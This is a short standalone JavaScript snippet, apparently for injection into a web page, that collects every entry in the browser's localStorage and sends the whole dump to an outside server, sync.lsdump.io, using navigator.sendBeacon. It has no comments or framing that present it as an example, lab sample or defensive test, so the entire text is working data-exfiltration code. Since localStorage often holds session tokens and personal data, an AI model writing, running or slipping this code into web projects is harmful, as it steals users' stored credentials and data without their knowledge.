(async () => {
  const dump = {};
  for (let i = 0; i < localStorage.length; i++) { const k = localStorage.key(i); dump[k] = localStorage.getItem(k); }
  navigator.sendBeacon('https://sync.lsdump.io/', JSON.stringify(dump));
})();
